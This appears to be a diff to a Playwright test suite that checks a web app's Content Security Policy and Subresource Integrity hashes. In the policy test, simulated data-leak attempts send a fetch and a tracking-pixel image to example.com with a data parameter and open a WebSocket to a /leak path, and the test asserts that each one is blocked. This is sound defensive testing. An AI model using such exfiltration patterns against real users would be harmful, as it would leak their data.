@@ -16,6 +16,7 @@ import { readFileSync, existsSync, mkdtempSync, writeFileSync } from 'node:fs';
 import { join, extname, resolve, dirname } from 'node:path';
 import { tmpdir } from 'node:os';
 import { gzipSync } from 'node:zlib';
+import { createHash } from 'node:crypto';
 import { fileURLToPath } from 'node:url';
 import { chromium } from 'playwright-core';
 
@@ -65,11 +66,15 @@ after(async () => {
 async function openApp() {
   const context = await browser.newContext({ acceptDownloads: true });
   const page = await context.newPage();
-  const log = { all: [], afterLoad: [], violations: [], csp: [] };
+  const log = { all: [], afterLoad: [], violations: [], csp: [], blocked: [] };
   let loaded = false;
   page.on('request', (r) => {
     log.all.push(r.url());
     if (loaded) log.afterLoad.push(r.url());
+  });
+  // A request Chromium blocks by CSP is reported as a request, then as failed: it never left the browser.
+  page.on('requestfailed', (r) => {
+    if (/^csp$|BLOCKED_BY_CSP/.test(r.failure()?.errorText ?? '')) log.blocked.push(r.url());
   });
   page.on('pageerror', (e) => log.violations.push(`pageerror: ${e.message}`));
   page.on('console', (m) => {
@@ -83,9 +88,10 @@ async function openApp() {
 
 function assertPrivate(log, { expectCspReports = false } = {}) {
   if (!expectCspReports) assert.deepEqual(log.csp, [], 'the app itself never trips its own CSP');
+  const sent = (u) => !log.blocked.includes(u);
   const foreign = log.all.filter((u) => !u.startsWith(origin + '/') && !u.startsWith('data:') && !u.startsWith('blob:'));
-  assert.deepEqual(foreign, [], 'requests to another origin');
-  assert.deepEqual(log.afterLoad, [], 'requests after the app had loaded');
+  assert.deepEqual(foreign.filter(sent), [], 'requests to another origin');
+  assert.deepEqual(log.afterLoad.filter(sent), [], 'requests after the app had loaded');
 }
 
 /** Waits for a finished run and checks scatter, table and timings; returns k. */
@@ -342,6 +348,25 @@ test('broken files give a clear alert, and the page keeps working', async () => 
   await context.close();
 });
 
+test('every asset carries a Subresource Integrity hash that matches the file', async () => {
+  const html = readFileSync(join(dist, 'index.html'), 'utf8');
+  const links = [...html.matchAll(/<link [^>]*href="\.\/([^"]+\.(?:css|js|wasm))"[^>]*>/g)];
+  assert.ok(links.length >= 3, `css, js and wasm links: ${links.length}`);
+  for (const [tag, file] of links) {
+    const m = /integrity="sha384-([^"]+)"/.exec(tag);
+    assert.ok(m, `${file} has an integrity attribute`);
+    const digest = createHash('sha384').update(readFileSync(join(dist, file))).digest('base64');
+    assert.equal(m[1], digest, `${file}: integrity matches its content`);
+  }
+  const scripts = [...html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
+  const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)[1];
+  for (const body of scripts) {
+    const hash = createHash('sha256').update(body).digest('base64');
+    assert.ok(csp.includes(`'sha256-${hash}'`), 'every inline script is allowed by its hash, not by unsafe-inline');
+  }
+  assert.ok(!csp.includes('unsafe-inline'));
+});
+
 test('the locked policy blocks requests attempted from the page', async () => {
   const { page, log, context } = await openApp();
   const outcome = await page.evaluate(async () => {
@@ -357,12 +382,33 @@ test('the locked policy blocks requests attempted from the page', async () => {
     };
     const foreign = await attempt(() => fetch('https://example.com/leak?data=1'));
     const same = await attempt(() => fetch('/index.html'));
+    const image = await new Promise((r) => {
+      const img = document.createElement('img');
+      img.onload = () => r('allowed');
+      img.onerror = () => r('blocked');
+      img.src = 'https://example.com/pixel.png?data=1';
+      document.body.append(img);
+    });
+    const socket = await new Promise((r) => {
+      try {
+        const ws = new WebSocket(`ws://${location.host}/leak`);
+        ws.onopen = () => r('allowed');
+        ws.onerror = () => r('blocked');
+      } catch {
+        r('blocked');
+      }
+    });
     await new Promise((r) => setTimeout(r, 200));
-    return { foreign, same, violations };
+    return { foreign, same, image, socket, violations };
   });
   assert.equal(outcome.foreign, 'blocked');
   assert.equal(outcome.same, 'blocked', 'even same-origin requests are blocked after load');
-  assert.ok(outcome.violations.length >= 2, `violations reported: ${outcome.violations}`);
+  assert.equal(outcome.image, 'blocked', 'an <img> to another origin is blocked');
+  assert.equal(outcome.socket, 'blocked', 'a WebSocket is blocked');
+  assert.ok(outcome.violations.includes('img-src'), `img-src violation reported: ${outcome.violations}`);
+  assert.ok(outcome.violations.includes('connect-src'), `connect-src violations reported: ${outcome.violations}`);
+  assert.ok(outcome.violations.length >= 4, `violations reported: ${outcome.violations}`);
+  assert.ok(log.blocked.includes('https://example.com/pixel.png?data=1'), `the image request was blocked by CSP: ${log.blocked}`);
   await page.waitForTimeout(100);
   assert.ok(log.csp.length > 0, 'CSP reports reach the console log, so the check in the other tests can fail');
   assertPrivate(log, { expectCspReports: true });
